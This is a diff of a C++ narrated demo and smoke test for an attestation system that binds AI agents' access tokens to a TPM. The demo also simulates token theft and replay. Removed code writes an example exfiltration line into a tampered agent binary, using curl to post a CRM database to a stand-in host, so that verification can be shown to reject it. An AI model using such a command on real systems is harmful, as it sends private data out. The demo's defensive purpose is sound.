@@ -1,23 +1,29 @@
-// agentroot-demo: the narrated end-to-end demo client (and smoke test) that
-// `make demo` runs against a real agentroot-verifier process.
+// agentroot-demo: the narrator of `make demo` (scripts/demo.sh).
 //
-// It plays every part except the verifier: machine-0 of a swtpm fleet (what
-// hostd will do: enrollment, agent key in the TPM, measurement, quote, DPoP
-// proofs), the operators (mutual TLS with their client certificates), a
-// resource server (AccessTokenValidator with the verifier's JWKS fetched over
-// HTTPS), and a thief on machine-1 holding a copy of the token. Each step
-// prints one narrated line and the facts it rests on; every verdict printed
-// comes from the verifier's responses or the validator's result. No token,
-// EAR or private key is ever printed: tokens are named by jti, keys by
-// RFC 7638 thumbprint.
+// scripts/demo.sh starts the real pieces — two swtpm machines, the verifier
+// (issuer key in SoftHSM2), the CRM API (agentroot-resource-demo), and
+// agentroot-hostd on machine-0 with one agent manifest, sales-bot — and then
+// runs this program, which plays everyone else and checks every outcome:
+//   - the operators, over mutual TLS with their client certificates: approve
+//     the host, register sales-bot with its manifest and scopes, review it,
+//     export the audit log;
+//   - the agent's life on machine-0: it runs the copy of
+//     agentroot-example-agent that hostd's manifest names (hostd measures it,
+//     quotes, gets the token), then an unregistered process (agentroot-token)
+//     asking hostd for a token, then the agent again after its binary changed;
+//   - the attacker on machine-1, with the agent's token and an old DPoP proof
+//     and a key in machine-1's own TPM.
+// Every verdict printed comes from a process's answer (exit status, HTTP
+// status, the verifier's audit log, the API's decision log). No token, proof,
+// key or PIN is ever printed: tokens are named by jti, keys by RFC 7638
+// thumbprint.
 //
 // Exit status: 0 when every step behaved as expected; 1 (with "demo: FAILED:
 // ..." on stderr) as soon as one did not; CLI11's codes for bad flags.
 #include <unistd.h>
 
 #include <CLI/CLI.hpp>
-#include <algorithm>
-#include <cctype>
+#include <chrono>
 #include <cstdio>
 #include <cstdlib>
 #include <ctime>
@@ -29,22 +35,21 @@
 #include <sstream>
 #include <stdexcept>
 #include <string>
+#include <thread>
 #include <vector>
 
-#include "agentroot/attestation/access_token.h"
 #include "agentroot/attestation/dpop.h"
-#include "agentroot/attestation/measurement.h"
 #include "agentroot/attestation/store/audit_chain.h"
-#include "agentroot/attestation/tpm_public.h"
 #include "agentroot/common/bytes.h"
 #include "agentroot/common/clock.h"
 #include "agentroot/common/json.h"
-#include "agentroot/common/signer.h"
-#include "agentroot/hsm/tpm/tpm_attestor.h"
+#include "agentroot/host/client.h"
+#include "agentroot/host/verifier_client.h"
 #include "agentroot/hsm/tpm/tpm_device.h"
 #include "agentroot/hsm/tpm/tpm_key_manager.h"
 #include "agentroot/http/client.h"
 #include "agentroot/simulators/tpm_fleet.h"
+#include "subprocess.h"
 
 namespace {
 
@@ -53,7 +58,8 @@ namespace att = agentroot::attestation;
 namespace common = agentroot::common;
 namespace http = agentroot::http;
 namespace tpm = agentroot::hsm::tpm;
-using common::Bytes;
+using agentroot::simulators::internal::ProcessResult;
+using agentroot::simulators::internal::RunProcess;
 using common::Json;
 
 // ------------------------------------------------------------------ output
@@ -99,10 +105,6 @@ T Must(common::Result<T> result, const std::string& what) {
   return std::move(result).value();
 }
 
-void Must(const common::Status& status, const std::string& what) {
-  if (!status.ok()) Fail(what + ": " + status.ToString());
-}
-
 std::string Short(std::string_view s, std::size_t n = 16) {
   return s.size() <= n ? std::string(s) : std::string(s.substr(0, n)) + "…";
 }
@@ -124,16 +126,13 @@ std::string ReadFile(const fs::path& path) {
   return buf.str();
 }
 
-void WriteFile(const fs::path& path, const std::string& content) {
-  std::ofstream out(path, std::ios::binary | std::ios::trunc);
-  out << content;
-  if (!out) Fail("cannot write " + path.string());
-}
-
-std::string B64(const Bytes& b) { return common::Base64UrlEncode(b); }
-Bytes UnB64(const Json& j, const char* name) {
-  if (!j.contains(name) || !j[name].is_string()) Fail(std::string("response lacks \"") + name + "\"");
-  return Must(common::Base64UrlDecode(j[name].get<std::string>()), std::string("\"") + name + "\" is not base64url");
+std::vector<std::string> Lines(const std::string& text) {
+  std::vector<std::string> out;
+  std::istringstream in(text);
+  for (std::string line; std::getline(in, line);) {
+    if (!line.empty()) out.push_back(line);
+  }
+  return out;
 }
 
 std::string Sha256Hex(std::string_view data) { return common::HexEncode(common::Sha256(common::AsBytes(data))); }
@@ -144,10 +143,17 @@ Json Claims(std::string_view jwt) {
   std::size_t a = jwt.find('.');
   std::size_t b = jwt.find('.', a == std::string_view::npos ? 0 : a + 1);
   if (a == std::string_view::npos || b == std::string_view::npos) Fail("not a JWS");
-  Bytes payload = Must(common::Base64UrlDecode(jwt.substr(a + 1, b - a - 1)), "JWT payload");
+  common::Bytes payload = Must(common::Base64UrlDecode(jwt.substr(a + 1, b - a - 1)), "JWT payload");
   Json j = Json::parse(common::ToString(payload), nullptr, false);
   if (!j.is_object()) Fail("JWT payload is not a JSON object");
   return j;
+}
+
+// The first line of a process's stderr, for narration (never holds a token:
+// agentroot-token and the example agent print problem codes and details).
+std::string FirstLine(const std::string& text) {
+  std::string line = text.substr(0, text.find('\n'));
+  return line.size() > 240 ? line.substr(0, 240) + "…" : line;
 }
 
 // --------------------------------------------------------------- HTTP calls
@@ -172,23 +178,14 @@ class Api {
  public:
   Api(std::string who, std::unique_ptr<http::HttpClient> client) : who_(std::move(who)), client_(std::move(client)) {}
 
-  http::Response Get(const std::string& target) {
-    return Must(client_->Get(target), who_ + ": GET " + target);
-  }
+  http::Response Get(const std::string& target) { return Must(client_->Get(target), who_ + ": GET " + target); }
   http::Response Post(const std::string& target, const Json& body) {
     return Must(client_->Post(target, body.dump()), who_ + ": POST " + target);
   }
-  http::Response PostForm(const std::string& target, std::string form,
-                          const std::vector<std::pair<std::string, std::string>>& headers = {}) {
-    http::ClientRequest r;
-    r.method = "POST";
-    r.target = target;
-    r.headers.emplace("Content-Type", "application/x-www-form-urlencoded");
-    for (const auto& [k, v] : headers) r.headers.emplace(k, v);
-    r.body = std::move(form);
-    return Must(client_->Send(r), who_ + ": POST " + target);
+  http::Response Send(const http::ClientRequest& request) {
+    return Must(client_->Send(request), who_ + ": " + request.method + " " + request.target);
   }
-  // `call` must answer `status`, else the demo fails with what it got.
+  // `r` must have `status`, else the demo fails with what it got.
   static Json Expect(const http::Response& r, int status, const std::string& what) {
     if (r.status != status) Fail(what + ": expected HTTP " + std::to_string(status) + ", got " + Describe(r));
     return Parse(r);
@@ -208,42 +205,50 @@ std::unique_ptr<Api> Connect(const std::string& who, const std::string& url, con
     options.client_certificate_chain_pem = ReadFile(cert);
     std::string key_pem = ReadFile(key);
     options.client_private_key_pem = common::SecretBytes(common::AsBytes(key_pem));
-    std::fill(key_pem.begin(), key_pem.end(), '\0');
+    common::SecureWipe(key_pem.data(), key_pem.size());
   }
   return std::make_unique<Api>(who, Must(http::HttpClient::Create(std::move(options)), who + ": HTTPS client"));
 }
 
-// ------------------------------------------------------------- the machine
-
-// One fleet machine as hostd sees it: its TPM, its AK, its agent keys.
-struct Machine {
-  std::string name;
-  std::shared_ptr<tpm::TpmDevice> device;
-  std::unique_ptr<tpm::TpmAttestor> attestor;
-  std::unique_ptr<tpm::TpmKeyManager> keys;
-};
-
-Machine OpenMachine(const agentroot::simulators::MachineInfo& info, const fs::path& state_root) {
-  Machine m;
-  m.name = info.name;
-  tpm::TpmDeviceOptions options;
-  options.tcti = info.tcti;
-  m.device = Must(tpm::TpmDevice::Open(std::move(options)), info.name + ": open TPM at " + info.tcti);
-  fs::path state = state_root / info.name;
-  fs::create_directories(state);
-  m.attestor = Must(tpm::TpmAttestor::Create(m.device, state), info.name + ": attestor");
-  m.keys = Must(tpm::TpmKeyManager::Create(m.device, state), info.name + ": key manager");
-  return m;
-}
+// ------------------------------------------------------------------ options
 
 struct Options {
   std::string verifier_url;
-  fs::path ca, operator_dir, fleet_json, state_dir;
+  fs::path ca, operator_dir, fleet_json, work_dir;
   std::string infra = "carol", owner = "alice", reviewer = "bob", auditor = "audrey";
-  std::string agent = "crm-bot", host_group = "crm-hosts", scope = "crm.read", audience = "https://crm.example";
-  std::string resource_url = "https://crm.example/api/accounts";
+  std::string agent = "sales-bot", host_group = "crm-hosts", scope = "crm.read";
+  fs::path hostd_socket, hostd_state_dir, agent_exe, token_cli, api_log;
+  int hostd_pid = 0;
+  std::string api_url, audience = "https://crm.example";
   int first_step = 1;
 };
+
+// ----------------------------------------------------------------- hostd
+
+// Polls hostd's /v1/status until its enrollment is `state`.
+agentroot::host::HostStatus WaitForHostd(agentroot::host::Client& hostd, const std::string& state,
+                                         std::chrono::seconds timeout) {
+  auto deadline = std::chrono::steady_clock::now() + timeout;
+  agentroot::host::HostStatus last;
+  while (true) {
+    auto s = hostd.Status();
+    if (s.ok()) {
+      last = *s;
+      if (last.enrollment == state) return last;
+    }
+    if (std::chrono::steady_clock::now() > deadline) {
+      Fail("hostd did not reach enrollment '" + state + "' within " + std::to_string(timeout.count()) +
+           " s (last: " + (s.ok() ? last.enrollment + " " + last.detail : s.status().ToString()) + ")");
+    }
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  }
+}
+
+ProcessResult Run(const std::vector<std::string>& argv, const std::string& what) {
+  agentroot::simulators::internal::ProcessOptions options;
+  options.timeout = std::chrono::seconds(60);
+  return Must(RunProcess(argv, options), what);
+}
 
 // ------------------------------------------------------------------- demo
 
@@ -253,66 +258,50 @@ void RunDemo(const Options& o) {
   const std::string ca_pem = ReadFile(o.ca);
   auto fleet = Must(agentroot::simulators::FleetInfo::FromJson(ReadFile(o.fleet_json)), "fleet " + o.fleet_json.string());
   if (fleet.machines.size() < 2) Fail("the demo needs a fleet of at least 2 machines");
-  fs::create_directories(o.state_dir);
+  const std::string m0 = fleet.machines[0].name, m1 = fleet.machines[1].name;
+  fs::create_directories(o.work_dir);
 
-  auto host_api = Connect("machine-0", o.verifier_url, ca_pem);  // hosts and agents: no client certificate
   auto op = [&](const std::string& name) {
     return Connect(name, o.verifier_url, ca_pem, o.operator_dir / (name + ".crt"), o.operator_dir / (name + ".key"));
   };
   auto infra = op(o.infra), owner = op(o.owner), reviewer = op(o.reviewer), auditor = op(o.auditor);
+  auto verifier = Must(agentroot::host::VerifierClient::Create(o.verifier_url, ca_pem, 1), "verifier client");
+  const auto metadata = Must(verifier->Metadata(), "verifier metadata");
+  agentroot::host::ClientOptions hostd_options;
+  hostd_options.socket_path = o.hostd_socket.string();
+  auto hostd = Must(agentroot::host::Client::Create(std::move(hostd_options)), "hostd client");
+  const std::string agent_id = "spiffe://example.org/agent/" + o.agent;
+  const std::string accounts_url = o.api_url + "/v1/accounts";
+  const std::string exe_v1 = Sha256Hex(ReadFile(o.agent_exe));
 
-  Json metadata = Api::Expect(host_api->Get("/.well-known/oauth-authorization-server"), 200, "metadata");
-  const std::string issuer = metadata.value("issuer", "");
-  const std::string token_endpoint = metadata.value("token_endpoint", "");
-  if (issuer.empty() || token_endpoint.empty()) Fail("metadata lacks issuer or token_endpoint");
-
-  // The agent "binary" hostd will measure: a small file the demo writes.
-  const fs::path exe = o.state_dir / o.agent;
-  WriteFile(exe, "#!/bin/sh\n# " + o.agent + " v1.0: syncs CRM accounts\nexec crm-sync --read-only\n");
-  const std::string exe_v1 = Sha256Hex(ReadFile(exe));
-
-  // ---------------------------------------------------------------- a
-  Step("machine-0 enrolls over HTTPS: EK certificate + EK + AK, MakeCredential, ActivateCredential");
-  Say("verifier " + o.verifier_url + ": issuer " + issuer + ", token endpoint " + token_endpoint);
-  Machine m0 = OpenMachine(fleet.machines[0], o.state_dir);
-  {
-    auto pcr = Must(m0.attestor->PcrRead({{tpm::kTpmAlgSha256, {att::kDefaultMeasurementPcr}}}), "read PCR 15");
-    for (const auto& [_, v] : pcr) {
-      if (v != Bytes(32, 0)) Fail("machine-0's PCR 15 is not in its reset state: start a fresh fleet");
+  // The agent process: the copy of agentroot-example-agent hostd's manifest
+  // names, reading accounts; `save` captures the headers it sent.
+  auto run_agent = [&](const fs::path& save) {
+    std::vector<std::string> argv = {o.agent_exe.string(), "--api", o.api_url, "--ca", o.ca.string(), "--audience",
+                                      o.audience, "--scope", o.scope, "--socket", o.hostd_socket.string()};
+    if (!save.empty()) {
+      argv.push_back("--save-request");
+      argv.push_back(save.string());
     }
-  }
-  Bytes ek_cert = Must(m0.attestor->ReadEkCertificate(tpm::EkKind::kRsa2048), "read the EK certificate");
-  Bytes ek_pub = Must(m0.attestor->ReadEkPublic(tpm::EkKind::kRsa2048), "read the EK public area");
-  auto ak = Must(m0.attestor->CreateAk("ak"), "create the AK");
-  Say("machine-0 TPM: EK certificate (NV 0x01c00002, sha256 " + Short(common::HexEncode(common::Sha256(ek_cert))) +
-      "), new AK (ECC P-256, restricted signing, name " + Short(common::HexEncode(ak.name)) + ")");
-  Json challenge = Api::Expect(host_api->Post("/v1/enroll", {{"ek_certificate", B64(ek_cert)},
-                                                             {"ek_public", B64(ek_pub)},
-                                                             {"ak_public", B64(ak.tpm2b_public)},
-                                                             {"ek_intermediates_pem", ReadFile(fleet.manufacturer_intermediate)},
-                                                             {"host_group", o.host_group}}),
-                               200, "enroll");
-  const std::string host = challenge.value("host_id", "");
-  Bytes blob = UnB64(challenge, "credential_blob"), encrypted = UnB64(challenge, "encrypted_secret");
-  Ok("verifier: EK chains to the manufacturer CA -> host id " + host + ", MakeCredential challenge (" +
-     std::to_string(blob.size()) + "-byte credential blob) expiring " + Utc(challenge.value("expires_at", int64_t{0})));
-  auto secret = Must(m0.attestor->ActivateCredential("ak", tpm::EkKind::kRsa2048, blob, encrypted),
-                     "TPM2_ActivateCredential");
-  Say("machine-0 TPM: ActivateCredential recovered the " + std::to_string(secret.Reveal().size()) +
-      "-byte secret (only the TPM holding both this EK and this AK can)");
-  Json activated = Api::Expect(
-      host_api->Post("/v1/enroll/" + host + "/activate",
-                     {{"activation_id", challenge.value("activation_id", "")},
-                      {"secret", B64(Bytes(secret.Reveal().begin(), secret.Reveal().end()))}}),
-      200, "activate");
-  if (activated.value("status", "") != "pending") Fail("activation: expected status pending, got " + activated.dump());
-  Ok("verifier: activation proven -> host " + host + " status " + activated.value("status", "") +
-     " (group " + o.host_group + " is not auto-approved)");
+    argv.push_back("GET");
+    argv.push_back("/v1/accounts");
+    return Run(argv, o.agent);
+  };
 
-  // ---------------------------------------------------------------- b
-  Step("Governance over mutual TLS: infra approves the host, the owner registers " + o.agent + ", a reviewer approves it");
-  Json approved = Api::Expect(infra->Post("/v1/hosts/" + host + "/approve", Json::object()), 200, "approve host");
-  Ok(o.infra + " (infra, client certificate): host " + host + " -> " + approved.value("status", ""));
+  // ---------------------------------------------------------------- 2
+  Step(m0 + ": hostd enrolls, an operator approves the host, the owner registers " + o.agent +
+       ", a reviewer approves it");
+  Say("agentroot-hostd runs on " + m0 + " (pid " + std::to_string(o.hostd_pid) + ", TCTI " + fleet.machines[0].tcti +
+      "): its own state directory and a Unix socket for the agents on the host");
+  auto pending = WaitForHostd(*hostd, "pending", std::chrono::seconds(30));
+  Ok("hostd enrolled: EK certificate + a new AK, TPM2_ActivateCredential proved they share a TPM -> host " +
+     pending.host_id + " is '" + pending.enrollment + "' (the group " + o.host_group + " is not auto-approved)");
+  Json approved = Api::Expect(infra->Post("/v1/hosts/" + pending.host_id + "/approve", Json::object()), 200,
+                              "approve host");
+  Say(o.infra + " (infra, client certificate) approves host " + pending.host_id + " -> " + approved.value("status", ""));
+  auto host = WaitForHostd(*hostd, "approved", std::chrono::seconds(15));
+  Ok("hostd learns it is approved (its next status poll is answered) -> '" + host.enrollment + "'");
+
   const int64_t registration_expiry = clock.NowUnixSeconds() + 86400;
   Json created = Api::Expect(owner->Post("/v1/agents", {{"name", o.agent},
                                                         {"host_group", o.host_group},
@@ -322,203 +311,140 @@ void RunDemo(const Options& o) {
                                                         {"expires_at", registration_expiry},
                                                         {"owners", {o.owner}}}),
                              201, "register agent");
-  const std::string registered_id = created.value("id", "");
-  if (registered_id.rfind("spiffe://", 0) != 0) Fail("register agent: unexpected id " + created.dump());
-  Ok(o.owner + " (owner): registered " + registered_id + ", scope " + o.scope + ", audience " + o.audience +
-     ", tokens <= 300 s, registration until " + Utc(registration_expiry) + " tomorrow");
+  if (created.value("id", "") != agent_id) Fail("register agent: expected id " + agent_id + ", got " + created.dump());
+  Say(o.owner + " (owner) registers " + agent_id + ": scope " + o.scope + ", audience " + o.audience +
+      ", tokens <= 300 s");
   Json manifest = Api::Expect(owner->Post("/v1/agents/" + o.agent + "/manifests",
                                           {{"exe_sha256", exe_v1}, {"files", Json::object()}}),
                               201, "add manifest");
   const std::string version = std::to_string(manifest.value("version", int64_t{0}));
-  Say(o.owner + ": manifest v" + version + " (executable sha256 " + Short(exe_v1) + ") -> " + manifest.value("status", ""));
+  Say(o.owner + ": manifest v" + version + " = the agent's executable " + o.agent_exe.filename().string() +
+      " (sha256 " + Short(exe_v1) + ") -> " + manifest.value("status", ""));
   auto self_review = owner->Post("/v1/agents/" + o.agent + "/manifests/" + version + "/review", {{"approve", true}});
   if (self_review.status != 403) Fail("the owner reviewing their own manifest: expected 403, got " + Describe(self_review));
-  Json problem = Parse(self_review);
-  Ok(o.owner + " reviews her own manifest -> HTTP 403 " + problem.value("type", "") + ": " + problem.value("detail", ""));
+  Ok(o.owner + " (also a reviewer) reviews her own manifest -> HTTP 403: " + Parse(self_review).value("detail", ""));
   Json review = Api::Expect(reviewer->Post("/v1/agents/" + o.agent + "/manifests/" + version + "/review",
                                            {{"approve", true}, {"comment", "read-only CRM sync, reviewed"}}),
                             200, "review manifest");
-  Ok(o.reviewer + " (reviewer, not an owner): manifest v" + version + " -> " + review.value("status", ""));
+  Ok(o.reviewer + " (reviewer, not an owner) approves manifest v" + version + " -> " + review.value("status", ""));
 
-  // ---------------------------------------------------------------- c
-  Step("hostd's job: agent key in machine-0's TPM, certified by the AK; measure, quote, attest");
-  auto agent_key = Must(m0.keys->Generate(o.agent, agentroot::hsm::KeyPolicy{}), "create the agent key in the TPM");
-  const std::string jkt = agent_key->public_jwk().Thumbprint();
-  Say("machine-0 TPM: agent key created (ES256, fixedTPM|fixedParent: never leaves the TPM), thumbprint " + jkt);
-  Json nonce = Api::Expect(host_api->Post("/v1/hosts/" + host + "/challenges", {{"purpose", "certify"}}), 201,
-                           "certify challenge");
-  std::string n = nonce.value("nonce", "");
-  auto certified = Must(m0.attestor->Certify("ak", *agent_key, att::CertifyQualifyingData(common::AsBytes(n))),
-                        "TPM2_Certify");
-  Json key_reg = Api::Expect(host_api->Post("/v1/hosts/" + host + "/agent-keys",
-                                            {{"agent_id", registered_id},
-                                             {"nonce", n},
-                                             {"key_public", B64(agent_key->native_public())},
-                                             {"certify_attest", B64(certified.tpms_attest)},
-                                             {"certify_signature", B64(certified.tpmt_signature)}}),
-                             201, "register agent key");
-  if (key_reg.value("thumbprint", "") != jkt) Fail("the verifier registered another key: " + key_reg.dump());
-  Ok("verifier: TPM2_Certify by the host's AK checked -> key " + Short(jkt, 12) + " registered for " + o.agent);
-
-  std::vector<att::MeasurementEvent> log;
-  auto attest = [&](const std::string& exe_digest) {
-    att::MeasurementEvent event;
-    event.sequence = log.size() + 1;
-    event.time = clock.NowUnixSeconds();
-    event.agent_id = registered_id;
-    event.pid = 4242;
-    event.uid = 1001;
-    event.exe_path = "/opt/agents/" + o.agent;
-    event.exe_sha256_hex = exe_digest;
-    Must(m0.attestor->PcrExtend(att::kDefaultMeasurementPcr, att::EventDigest(event)), "PCR extend");
-    log.push_back(event);
-    Say("hostd: measured " + event.exe_path + " (sha256 " + Short(exe_digest) + "), event #" +
-        std::to_string(event.sequence) + " extended into PCR 15");
-    Json c = Api::Expect(host_api->Post("/v1/hosts/" + host + "/challenges", {{"purpose", "attest"}}), 201,
-                         "attest challenge");
-    std::string attest_nonce = c.value("nonce", "");
-    auto key_name = Must(att::TpmPublic::Parse(agent_key->native_public()), "agent key public area").name();
-    std::vector<tpm::PcrBank> selection = {{tpm::kTpmAlgSha256, {0, att::kDefaultMeasurementPcr}}};
-    auto quote = Must(m0.attestor->Quote("ak", selection,
-                                         att::QualifyingData(common::AsBytes(attest_nonce), key_name,
-                                                             att::EventDigest(event))),
-                      "TPM2_Quote");
-    auto values = Must(m0.attestor->PcrRead(selection), "PCR read");
-    Json pcrs = Json::object();
-    for (const auto& [bank_pcr, value] : values) pcrs[std::to_string(bank_pcr.second)] = common::HexEncode(value);
-    Say("machine-0 TPM: quote of PCRs 0,15 by the AK over (nonce, agent key name, event digest)");
-    return Api::Expect(host_api->Post("/v1/attest", {{"host_id", host},
-                                                     {"agent_id", registered_id},
-                                                     {"nonce", attest_nonce},
-                                                     {"agent_key_public", B64(agent_key->native_public())},
-                                                     {"quote_attest", B64(quote.tpms_attest)},
-                                                     {"quote_signature", B64(quote.tpmt_signature)},
-                                                     {"pcr_values", pcrs},
-                                                     {"measurement_log", att::SerializeLog(log)}}),
-                       200, "attest");
-  };
-  auto reasons_of = [](const Json& j, const char* name) {
-    std::string out;
-    if (j.contains(name) && j[name].is_array()) {
-      for (const auto& r : j[name]) out += (out.empty() ? "" : ", ") + r.get<std::string>();
-    }
-    return out.empty() ? std::string("none") : out;
-  };
-  Json attested = attest(exe_v1);
-  if (attested.value("status", "") != "affirming") {
-    Fail("attestation: expected affirming, got " + attested.value("status", "") + " (" + reasons_of(attested, "reasons") + ")");
+  // ---------------------------------------------------------------- 3
+  Step("The agent on " + m0 + " gets a token through hostd and reads the CRM's accounts");
+  Say("it runs " + o.agent_exe.string() + " (a copy of agentroot-example-agent); it holds no key and no secret");
+  const fs::path captured = o.work_dir / "captured-request.txt";
+  ProcessResult first = run_agent(captured);
+  if (first.exit_code != 0 || first.stdout_text.rfind("200 ", 0) != 0) {
+    Fail("the agent's request: expected exit 0 and HTTP 200, got " + first.Describe() + " " +
+         FirstLine(first.stdout_text));
   }
-  const std::string ear = attested.value("ear", "");
-  Json ear_claims = Claims(ear);
-  Ok("verifier: quote, log replay and manifest match -> EAR status " + attested.value("status", "") +
-     ", bound to key " + Short(ear_claims["cnf"].value("jkt", ""), 12) + ", manifest v" +
-     std::to_string(ear_claims.value("agentroot.manifest_version", 0)) + ", expires " +
-     Utc(attested.value("expires_at", int64_t{0})));
-
-  // ---------------------------------------------------------------- d
-  Step("Token exchange: the EAR + a DPoP proof signed inside machine-0's TPM");
-  auto token_form = [&](const std::string& subject_token) {
-    return "grant_type=" + http::FormUrlEncode("urn:ietf:params:oauth:grant-type:token-exchange") +
-           "&subject_token_type=" + http::FormUrlEncode("urn:ietf:params:oauth:token-type:jwt") + "&scope=" + http::FormUrlEncode(o.scope) +
-           "&audience=" + http::FormUrlEncode(o.audience) + "&subject_token=" + http::FormUrlEncode(subject_token);
-  };
-  auto token_proof = [&](const common::Signer& key) {
-    return Must(att::CreateDpopProof(key, "POST", token_endpoint, clock.NowUnixSeconds()), "DPoP proof");
-  };
-  Json issued = Api::Expect(host_api->PostForm("/oauth/token", token_form(ear), {{"DPoP", token_proof(*agent_key)}}),
-                            200, "token exchange");
-  const std::string token = issued.value("access_token", "");
-  if (issued.value("token_type", "") != "DPoP" || token.empty()) Fail("token exchange: not a DPoP token");
-  Json claims = Claims(token);
+  // What the agent sent, as an attacker would capture it (step 5).
+  std::string stolen_token, stolen_proof;
+  for (const std::string& line : Lines(ReadFile(captured))) {
+    if (line.rfind("Authorization: DPoP ", 0) == 0) stolen_token = line.substr(20);
+    if (line.rfind("DPoP: ", 0) == 0) stolen_proof = line.substr(6);
+  }
+  if (stolen_token.empty() || stolen_proof.empty()) Fail("the agent's captured request lacks its headers");
+  Json claims = Claims(stolen_token);
   const std::string jti = claims.value("jti", "");
-  if (claims["cnf"].value("jkt", "") != jkt) Fail("the token is bound to another key");
-  Ok("verifier: token issued, type " + issued.value("token_type", "") + ", jti " + jti + ", scope " +
-     issued.value("scope", "") + ", expires in " + std::to_string(issued.value("expires_in", 0)) + " s (" +
-     Utc(claims.value("exp", int64_t{0})) + ")");
-  Say("token bound to the TPM key: cnf.jkt " + claims["cnf"].value("jkt", "") + " (the token itself is not printed)");
-
-  // ---------------------------------------------------------------- e
-  Step("A resource server (" + o.audience + ") checks the agent's request");
-  auto jwks_client = Connect("resource server", o.verifier_url, ca_pem);
-  auto jwks = std::make_shared<att::JwksCache>(
-      [&jwks_client]() -> common::Result<std::string> {
-        http::Response r = jwks_client->Get("/.well-known/jwks.json");
-        if (r.status != 200) return common::UnavailableError("JWKS: " + Describe(r));
-        return r.body;
-      },
-      clock, att::JwksCache::Options{});
-  auto replay = std::make_shared<att::InMemoryReplayCache>(10000, clock);
-  att::AccessTokenPolicy policy;
-  policy.issuer = issuer;
-  policy.audience = o.audience;
-  auto validator = Must(att::AccessTokenValidator::Create(policy, jwks, replay, &clock), "validator");
-  auto request_proof = [&](const common::Signer& key) {
-    return Must(att::CreateDpopProof(key, "GET", o.resource_url, clock.NowUnixSeconds(), token), "DPoP proof");
-  };
-  const std::vector<std::string> agent_proof = {request_proof(*agent_key)};
-  auto authorized = validator->Validate("DPoP " + token, agent_proof, "GET", o.resource_url, o.scope);
-  if (!authorized.ok()) Fail("the agent's own request was refused: " + authorized.status().ToString());
-  Ok("GET " + o.resource_url + " by " + o.agent + " on machine-0 -> authorized: sub " + authorized->subject +
-     ", scopes " + o.scope + ", proof key " + Short(authorized->jkt, 12) + " = cnf.jkt (JWKS fetched " +
-     std::to_string(jwks->fetch_count()) + "x over HTTPS)");
-
-  // ---------------------------------------------------------------- f
-  Step("The stolen token: copied to machine-1, another fleet machine with its own TPM");
-  Machine m1 = OpenMachine(fleet.machines[1], o.state_dir);
-  auto thief_key = Must(m1.keys->Generate("thief", agentroot::hsm::KeyPolicy{}), "machine-1 key");
-  Say("machine-1 has the token and its own TPM key (" + Short(thief_key->public_jwk().Thumbprint(), 12) +
-      "), but not machine-0's key");
-  auto expect_refused = [&](const std::string& what, std::string_view authorization,
-                            const std::vector<std::string>& proofs, std::string_view expected_error) {
-    auto r = validator->Validate(authorization, proofs, "GET", o.resource_url, o.scope);
-    if (r.ok()) Fail(what + ": was AUTHORIZED");
-    std::string error(att::OAuthErrorOf(r.status()));
-    if (!expected_error.empty() && error != expected_error) {
-      Fail(what + ": expected " + std::string(expected_error) + ", got " + r.status().ToString());
-    }
-    Ok(what + " -> refused: " + std::string(r.status().message()));
-  };
-  expect_refused("token + DPoP proof signed by machine-1's TPM", "DPoP " + token, {request_proof(*thief_key)},
-                 att::oauth_error::kInvalidDpopProof);
-  expect_refused("token without a DPoP proof", "DPoP " + token, {}, att::oauth_error::kInvalidToken);
-  expect_refused("token presented as a Bearer token", "Bearer " + token, {}, "");
-  expect_refused("token + the agent's proof captured on the wire (replayed)", "DPoP " + token, agent_proof,
-                 att::oauth_error::kInvalidDpopProof);
-
-  // ---------------------------------------------------------------- g
-  Step("The agent's binary changes on machine-0");
-  WriteFile(exe, ReadFile(exe) + "curl -s https://exfil.example/upload -d @/var/lib/crm/accounts.db\n");
-  const std::string exe_v2 = Sha256Hex(ReadFile(exe));
-  Say(exe.filename().string() + " now hashes to " + Short(exe_v2) + " (the approved manifest says " + Short(exe_v1) + ")");
-  Json attested2 = attest(exe_v2);
-  if (attested2.value("status", "") != "contraindicated") {
-    Fail("attestation of the changed binary: expected contraindicated, got " + attested2.value("status", ""));
+  const std::string jkt = claims.contains("cnf") ? claims["cnf"].value("jkt", "") : "";
+  Json accounts = Json::parse(first.stdout_text.substr(4), nullptr, false);
+  std::size_t n_accounts = 0;
+  if (accounts.is_object() && accounts.contains("accounts") && accounts["accounts"].is_array()) {
+    n_accounts = accounts["accounts"].size();
+  } else if (accounts.is_array()) {
+    n_accounts = accounts.size();
   }
-  Ok("verifier: EAR status " + attested2.value("status", "") + ", reasons: " + reasons_of(attested2, "reasons"));
-  auto refused = host_api->PostForm("/oauth/token", token_form(attested2.value("ear", "")),
-                                    {{"DPoP", token_proof(*agent_key)}});
-  if (refused.status == 200) Fail("a token was issued for the changed binary");
-  Json err = Parse(refused);
-  Ok("token request with that EAR (proof by the right TPM key) -> HTTP " + std::to_string(refused.status) + " " +
-     err.value("error", "") + ": " + err.value("error_description", ""));
+  Say("hostd identified the caller by its socket credentials, measured its executable into PCR 15, created");
+  Say("its key in " + m0 + "'s TPM (certified by the AK), quoted, and exchanged the verifier's EAR for a token");
+  Ok("GET " + accounts_url + " -> HTTP 200 (" + std::to_string(n_accounts) + " accounts); token jti " + jti +
+     ", sub " + claims.value("sub", "") + ", expires " + Utc(claims.value("exp", int64_t{0})));
+  Say("the token is bound to the agent's TPM key: cnf.jkt " + jkt + "; every request carries a DPoP proof");
+  Say("signed inside the TPM (the token itself is never printed)");
 
-  // ---------------------------------------------------------------- h
-  Step("Revocation of the first token");
-  Json before = Api::Expect(host_api->PostForm("/oauth/introspect", "token=" + http::FormUrlEncode(token)), 200, "introspect");
-  if (!before.value("active", false)) Fail("introspection before revocation: inactive");
-  Say("introspection of jti " + jti + ": active " + (before.value("active", false) ? "true" : "false") +
-      " (a token issued before the change stays valid until revoked or expired)");
-  Api::Expect(host_api->PostForm("/oauth/revoke", "token=" + http::FormUrlEncode(token)), 200, "revoke");
-  Say("the token holder revokes it (POST /oauth/revoke, RFC 7009) -> HTTP 200");
-  Json after = Api::Expect(host_api->PostForm("/oauth/introspect", "token=" + http::FormUrlEncode(token)), 200, "introspect");
-  if (after.value("active", true)) Fail("introspection after revocation: still active");
-  Ok("introspection of jti " + jti + ": active " + (after.value("active", true) ? "true" : "false"));
+  // ---------------------------------------------------------------- 4
+  Step("An unregistered process on " + m0 + " asks hostd for a token");
+  ProcessResult shadow = Run({o.token_cli.string(), "--socket", o.hostd_socket.string(), "token", "--audience",
+                              o.audience, "--scope", o.scope},
+                             "agentroot-token");
